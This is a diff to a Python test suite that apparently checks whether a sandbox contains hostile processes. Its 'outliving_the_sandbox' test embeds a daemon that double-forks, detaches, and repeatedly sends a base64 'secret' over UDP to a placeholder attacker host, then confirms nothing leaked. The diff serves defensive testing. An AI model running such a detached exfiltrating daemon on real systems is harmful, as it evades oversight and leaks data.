@@ -93,7 +93,8 @@ def many_small_chunks(world):
     gate = world.case.child(box.process, "gate")
     port, got, how = box.call(chunks, 20000)
     check(b"200 OK" in got, got[:200])
-    body, rest = bytearray(), o.all().split(b"\r\n\r\n", 1)[1]
+    sent, = [bytes(g) for g in o.got if g.startswith(b"POST /c")]
+    body, rest = bytearray(), sent.split(b"\r\n\r\n", 1)[1]
     while rest:
         size, _, rest = rest.partition(b"\r\n")
         n = int(size.split(b";")[0], 16)
@@ -289,7 +290,6 @@ if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
         os.closerange(0, 3)
-        os.write(w, b"x")
         u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         n = 0
         while True:
@@ -297,6 +297,7 @@ if os.fork() == 0:
             with open("alive", "w") as f: f.write(str(n))
             try: u.sendto(b"c2VjcmV0", ("{EVIL}", 9))
             except OSError: pass
+            if n == 1: os.write(w, b"x")
             time.sleep(0.002)
     os._exit(0)
 os.read(r, 1)
@@ -313,11 +314,16 @@ def outliving_the_sandbox(world):
     path = world.case.work + "/alive"
     status, out, err = run(world, "python3", "-c", DAEMON)
     equal(status, 9, err)
-    last = open(path).read()
+    last = read(path)
     subprocess.run(["sleep", "0.1"])
-    equal(open(path).read(), last)
+    equal(read(path), last)
     os.unlink(path)
     check(not world.uplink.read())
+
+
+def read(path):
+    with open(path) as f:
+        return f.read()
 
 
 @row("O28", technique="terminal escapes in names, for whoever reads the summary or the log",
